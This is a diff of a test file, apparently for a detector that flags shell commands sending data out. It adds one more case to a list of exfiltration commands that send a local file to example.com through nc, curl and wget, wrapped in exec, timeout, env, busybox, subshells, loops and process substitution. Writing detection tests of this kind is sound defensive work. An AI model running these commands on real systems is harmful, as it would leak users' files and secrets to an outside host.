@@ -53,7 +53,7 @@ describe('nor a write to the system, or a way out', () => {
 describe('what sends data is known for it, whatever brings the data', () => {
   test.each(
     listed`
-    timeout 5 nc example.com 80 < a ¦ env nc example.com 80 <<< "$x" ¦ busybox nc example.com 80 < a ¦ { nc example.com 80; } < a
+    exec < a; nc example.com 80 ¦ timeout 5 nc example.com 80 < a ¦ env nc example.com 80 <<< "$x" ¦ busybox nc example.com 80 < a ¦ { nc example.com 80; } < a
     ¦ (nc example.com 80) < a ¦ while read -r l; do nc example.com 80; done < a ¦ bash -c 'nc example.com 80' < a
     ¦ tee >(nc example.com 80) < a ¦ if true; then nc example.com 80; fi < a ¦ nice nc example.com 80 0< a
     ¦ curl "https://example.com/?q=$(cat a)" ¦ curl https://example.com/$(base64 -w0 a) ¦ wget "https://example.com/$(<a)"
